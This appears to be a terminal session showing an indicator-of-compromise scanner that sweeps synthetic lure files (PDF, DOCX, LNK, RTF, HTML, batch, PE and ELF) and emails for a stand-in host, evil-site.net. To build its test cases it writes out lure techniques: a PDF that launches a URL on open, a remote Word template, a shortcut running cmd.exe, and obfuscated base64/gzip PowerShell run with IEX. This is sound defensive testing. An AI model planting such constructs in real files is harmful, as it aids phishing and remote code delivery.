# What lies inside documents and programs: links, scripts, attachments, shortcuts, fingerprints.

$ cat >alert.md <<'END'
> # Lantern Moth writes to laboratories
>
> Published: 3 July 2020. Seen since 1 May 2020.
>
> ## Indicators of compromise
>
> - evil-site[.]net
> - SHA-256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
> END

$ cat >findings <<'END'
> #!/bin/sh
> tocsin sweep -a alert.md --format json "$@" | records +finding +gap at class place field why reason
> END

$ chmod +x findings

# A PDF: a script, a link, words cut by kerning, an attached file.
$ python3 - >lure.pdf <<'END'
> import sys, zlib
> show = zlib.compress(b'BT /F1 12 Tf 10 10 Td [(See evi)-5(l-site.net)] TJ ET')
> objects = [
>     b'<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\("http://evil-site.net/js"\\))>>>>',
>     b'<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://evil-site.net/a)>>>>',
>     b'<</Length %d/Filter/FlateDecode>>stream\n' % len(show) + show + b'\nendstream',
>     b'<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
>     b'<</Type/EmbeddedFile/Length 4>>stream\ntest\nendstream']
> out = b'%PDF-1.4\n' + b''.join(b'%d 0 obj\n%s\nendobj\n' % (i + 1, o) for i, o in enumerate(objects))
> sys.stdout.buffer.write(out + b'trailer<</Root 1 0 R>>\n%%EOF\n')
> END

$ ./findings lure.pdf
tocsin: seen: lure.pdf: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 (a listed program or file lies here, known by its content), in lure.pdf
finding at=lure.pdf @ 0x16+13 class=unjudged place=link field=script why=["a document that lies here leads to it"]
finding at=lure.pdf » text:2 class=mention place=document why=["it stands in the text of a document"]
finding at=lure.pdf » a.exe class=compromise place=file content why=["a listed program or file lies here, known by its content"]

# The same attached to a message: they tried.
$ (printf 'From: a@b.example\nTo: lab@hospital.example\nDate: Sun, 10 May 2020 09:14:00 +0000\nContent-Type: application/pdf; name=lure.pdf\nContent-Transfer-Encoding: base64\n\n'; base64 lure.pdf) >lure.eml; ./findings lure.eml
finding at=lure.eml » lure.pdf @ 0x16+13 class=attempt place=link field=script why=["a message to us", "a link in a document, attached to a message to us"]
finding at=lure.eml » lure.pdf » text:2 class=unjudged place=unknown record why=["it stands in the text of a message, not as a link"]
finding at=lure.eml » lure.pdf » a.exe class=attempt place=file content why=["a message to us", "a listed file, attached to a message to us"]

# A document of Word that fetches its template from outside.
$ python3 -c 'import zipfile; z = zipfile.ZipFile("lure.docx", "w"); z.writestr("word/_rels/settings.xml.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Target=\"http://evil-site&#46;net/t.dotm\" TargetMode=\"External\"/></Relationships>"); z.close()'; ./findings lure.docx
finding at=lure.docx » word/_rels/settings.xml.rels @ 0x7+13 class=unjudged place=link field=link why=["a document that lies here leads to it"]

# A shortcut that starts a command.
$ python3 -c 'import struct, sys; u = lambda t: struct.pack("<H", len(t)) + t.encode("utf-16le"); sys.stdout.buffer.write(bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 8 | 32 | 128) + bytes(52) + u("..\\cmd.exe") + u("/c start http://evil-site.net/a"))' >invoice.lnk; ./findings invoice.lnk
tocsin: seen: invoice.lnk: evil-site.net (it stands in a command that runs here), in invoice.lnk
finding at=invoice.lnk @ 0x1b+13 class=compromise place=command why=["it stands in a command that runs here"]

# A program that carries an archive, one with data behind it that nobody reads, one that unpacks itself.
$ python3 - <<'END'
> import io, struct, zipfile
> def program(behind=b'', flags=0x60000020, name=b'.text'):
>     head = bytearray(512)
>     head[0:2], head[60], head[64:68] = b'MZ', 64, b'PE\0\0'
>     struct.pack_into('<HHIIIHHH', head, 68, 0x14c, 1, 0, 0, 0, 224, 0x102, 0x10b)
>     struct.pack_into('<I', head, 104, 0x1000)
>     struct.pack_into('<8sIIIIIIHHI', head, 312, name, 512, 0x1000, 512, 512, 0, 0, 0, 0, flags)
>     return bytes(head) + bytes(512) + behind
> packed = io.BytesIO()
> with zipfile.ZipFile(packed, 'w') as z:
>     z.writestr('a/url.txt', 'http://evil-site.net/\n')
> open('extract.exe', 'wb').write(program(packed.getvalue()))
> open('setup.exe', 'wb').write(program(b'\0\0\0\0\xef\xbe\xad\xdeNullsoftInst' + b'\xa5' * 80))
> open('packed.exe', 'wb').write(program(flags=0xe0000040, name=b'UPX1'))
> open('plain.exe', 'wb').write(program())
> END

$ for f in extract setup packed plain; do tocsin sweep -a alert.md --format json $f.exe | records +finding +gap at detail material; done
finding at=extract.exe:1
finding at=extract.exe » archive in the program » a/url.txt:1
gap at=setup.exe detail=pe: data behind the program, not opened: 100 bytes at 0x400, Nullsoft installer material=false
gap at=packed.exe detail=pe: looks packed: it begins in a section that it can change (UPX1); what it unpacks to was not seen material=false

# A letter in Rich Text Format with a file in it.
$ python3 - >letter.rtf <<'END'
> import struct
> sized = lambda b: struct.pack('<I', len(b)) + b
> packed = struct.pack('<H', 2) + b'url.txt\0C:\\url.txt\0' + struct.pack('<HHI', 0, 3, 11) + b'C:\\url.txt\0' + sized(b'http://evil-site.net/\n')
> print('{\\rtf1 Read this {\\object\\objemb{\\*\\objdata ' + (struct.pack('<II', 0x501, 2) + sized(b'Package\0') + sized(b'') + sized(b'') + sized(packed)).hex('\n', 32) + '}}}')
> END

$ ./findings letter.rtf
finding at=letter.rtf » object » url.txt:1 class=unjudged place=unknown record why=["text of a format that is not known"]

# A page that carries a file, and a script in layers: a command of PowerShell, in which a gzip, in which a script.
$ python3 - <<'END'
> import base64, gzip
> b = lambda data: base64.b64encode(data).decode()
> url = b'$u = "http://evil-site.net/"; Start-Process $u; exit; # one two three four five six'
> open('page.html', 'w').write('<html><body><a href="data:text/plain;base64,' + b(b'See http://evil-site.net/ for more of what the conference has to say.\n') + '">open</a></body></html>')
> inner = '$x = [Convert]::FromBase64String("' + b(gzip.compress(url, mtime=0)) + '"); IEX $x'
> open('run.bat', 'w').write('@echo off\npowershell.exe -nop -enc ' + b(inner.encode('utf-16le')) + '\n')
> END

$ for f in page.html run.bat; do ./findings $f; done
finding at=page.html:1 class=mention place=document why=["it stands in the text of a document"]
finding at=page.html » data:text/plain:1 class=mention place=document why=["it stands in the text of a document"]
tocsin: seen: run.bat: evil-site.net (it stands in a command that runs here), in run.bat
finding at=run.bat » base64 » base64 (gzip):1 class=compromise place=command why=["it stands in a command that runs here"]

# What programs say of themselves, whatever their file is called: version, symbols, libraries, build id.
$ cat >program.py <<'END'
> import struct
> def wide(text): return text.encode('utf-16le') + b'\0\0'
> def node(key, value=b'', inside=b'', kind=1):
>     body = b'\0' * 6 + wide(key)
>     body += b'\0' * (-len(body) % 4) + value
>     body += b'\0' * (-len(body) % 4) + inside
>     body = struct.pack('<HHH', len(body), len(value) // (1 + kind), kind) + body[6:]
>     return body + b'\0' * (-len(body) % 4)
> def pe(strings, pdb, library):
>     s = bytearray(4096)
>     text = b''.join(node(k, wide(v)) for k, v in strings)
>     version = node('VS_VERSION_INFO', bytes(52), node('StringFileInfo', b'', node('040904b0', b'', text)), 0)
>     for level, (name, to) in enumerate(((16, 1 << 31 | 24), (1, 1 << 31 | 48), (1033, 72))):
>         struct.pack_into('<HHII', s, 24 * level + 12, 0, 1, name, to)
>     struct.pack_into('<II', s, 72, 0x1000 + 96, len(version))
>     s[96:96 + len(version)] = version
>     struct.pack_into('<III', s, 2048 + 12, 2, 24 + len(pdb) + 1, 0)
>     struct.pack_into('<I', s, 2048 + 24, 512 + 2100)
>     s[2100:2104], s[2124:2124 + len(pdb)] = b'RSDS', pdb.encode()
>     struct.pack_into('<IIIII', s, 3000, 0x1000 + 3100, 0, 0, 0x1000 + 3200, 0)
>     struct.pack_into('<I', s, 3100, 0x1000 + 3300)
>     s[3200:3200 + len(library)], s[3302:3306] = library.encode(), b'Send'
>     head = bytearray(512)
>     head[0:2], head[60], head[64:68] = b'MZ', 64, b'PE\0\0'
>     struct.pack_into('<HHIIIHHH', head, 68, 0x14c, 1, 0, 0, 0, 224, 0x102, 0x10b)
>     for n, at in ((1, 3000), (2, 0), (6, 2048)):
>         struct.pack_into('<II', head, 88 + 96 + 8 * n, 0x1000 + at, 28)
>     struct.pack_into('<8sIIIIIIHHI', head, 312, b'.text', 4096, 0x1000, 4096, 512, 0, 0, 0, 0, 0x60000020)
>     return bytes(head + s)
> def elf(build, library, bits=64, order='<'):
>     strings = b'\0' + library.encode() + b'\0socket\0'
>     word, wide = ('Q', 1) if bits == 64 else ('I', 0)
>     note = struct.pack(order + 'III', 4, len(build), 3) + b'GNU\0' + build
>     symbol = struct.pack(order + ('IBBHQQ' if wide else 'IIIBBH'), len(library) + 2, *(0,) * 5)
>     symbols = bytes(len(symbol)) + symbol
>     at = {'note': 512, 'symbols': 640, 'strings': 640 + len(symbols), 'dynamic': 1024}
>     dynamic = b''.join(struct.pack(order + 2 * word, *e) for e in ((1, 1), (5, at['strings']), (6, at['symbols']), (10, len(strings)), (0, 0)))
>     def segment(kind, offset, size):
>         f = (kind, 4, offset, offset, 0, size, size, 4) if wide else (kind, offset, offset, 0, size, size, 4, 4)
>         return struct.pack(order + ('II6Q' if wide else '8I'), *f)
>     table = segment(1, 0, 2048) + segment(4, 512, len(note)) + segment(2, 1024, len(dynamic))
>     head = b'\x7fELF' + bytes([1 + wide, 1 if order == '<' else 2, 1]) + bytes(9)
>     head += struct.pack(order + 'HHI3' + word + 'I6H', 2, 62, 1, 0, 64, 0, 0, 64, len(table) // 3, 3, 0, 0, 0)
>     out = bytearray(2048)
>     for where, what in ((0, head), (64, table), (512, note), (640, symbols + strings), (1024, dynamic)):
>         out[where:where + len(what)] = what
>     return bytes(out)
> open('svchost.exe', 'wb').write(pe([('CompanyName', 'Moth & Co'), ('OriginalFilename', 'mothload.exe')], 'C:\\moth\\loader\\load.pdb', 'mothnet.dll'))
> for name, bits, order in (('a64', 64, '<'), ('a32', 32, '<'), ('b64', 64, '>'), ('b32', 32, '>')):
>     open(name, 'wb').write(elf(bytes.fromhex('0123456789abcdef0123456789abcdef01234567'), 'libmothnet.so.1', bits, order))
> END

$ mkdir programs; cd programs; python3 ../program.py; tocsin show svchost.exe a64 b32 | grep -v bytes; for f in a64 a32 b64 b32; do tocsin show $f | grep = | sha256sum; done | uniq | wc -l; cd ..
  imphash=2daaa1531c69a02628281057ed47fe2b
  CompanyName=Moth & Co
  OriginalFilename=mothload.exe
  pdb=C:\moth\loader\load.pdb
  import=mothnet.dll: Send
  build-id=0123456789abcdef0123456789abcdef01234567
  import=libmothnet.so.1
  functions=socket
  build-id=0123456789abcdef0123456789abcdef01234567
  import=libmothnet.so.1
  functions=socket
1

$ tocsin sweep -q --format json -e mothload.exe -e 'C:\moth\loader\load.pdb' -e mothnet.dll -e 0123456789abcdef0123456789abcdef01234567 programs | records +finding at indicator.value class place field why
finding at=programs/a32 indicator.value=0123456789abcdef0123456789abcdef01234567 class=compromise place=program field=build-id why=["a program that lies here says so of itself"]
finding at=programs/a64 indicator.value=0123456789abcdef0123456789abcdef01234567 class=compromise place=program field=build-id why=["a program that lies here says so of itself"]
finding at=programs/b32 indicator.value=0123456789abcdef0123456789abcdef01234567 class=compromise place=program field=build-id why=["a program that lies here says so of itself"]
finding at=programs/b64 indicator.value=0123456789abcdef0123456789abcdef01234567 class=compromise place=program field=build-id why=["a program that lies here says so of itself"]
finding at=programs/svchost.exe indicator.value=mothload.exe class=compromise place=program field=OriginalFilename why=["a program that lies here says so of itself"]
finding at=programs/svchost.exe indicator.value=c:\moth\loader\load.pdb class=compromise place=program field=pdb why=["a program that lies here says so of itself"]
finding at=programs/svchost.exe indicator.value=mothnet.dll class=unjudged place=program field=import why=["a program that lies here asks for it"]

# Cut anywhere, nothing is lost but what was cut, and nobody falls.
$ mkdir cut; python3 -c "
> for f in ('svchost.exe', 'a64', 'b32'):
>     whole = open('programs/' + f, 'rb').read()
>     for n in range(0, len(whole), 97):
>         open(f'cut/{f}-{n}', 'wb').write(whole[:n])
> "; tocsin sweep -q --format json -e 0123456789abcdef0123456789abcdef01234567 cut | records +gap reason +summary gaps
summary gaps=0

# The same attached to a message; bytes of two a letter are quoted as letters.
$ python3 -c "
> import base64
> print('From: a@b.example\nTo: c@d.example\nDate: Tue, 12 May 2020 07:12:00 +0000\nContent-Type: application/x; name=photo.scr\nContent-Transfer-Encoding: base64\n')
> print(base64.encodebytes(open('programs/svchost.exe', 'rb').read() + 'runs mothload.exe'.encode('utf-16-le')).decode())" >photo.eml; tocsin sweep -q --format json -e mothload.exe -e mothnet.dll photo.eml | records +finding at class place field why; tocsin sweep -q -e mothload.exe photo.eml | grep -A3 '^ 1 .* photo.scr'
finding at=photo.eml » photo.scr class=attempt place=program field=OriginalFilename why=["a message to us", "a program that says so of itself, attached to a message to us"]
finding at=photo.eml » photo.scr class=unjudged place=program field=import why=["a program that lies here asks for it"]
finding at=photo.eml » photo.scr:3 class=unjudged place=bytes why=["it stands inside a file that is not understood"]
 1 mothload.exe stands in photo.eml > photo.scr, 12 May 07:12: "runs
   mothload.exe". To be judged: it stands inside a file that is not understood.
   F2
THEY TRIED
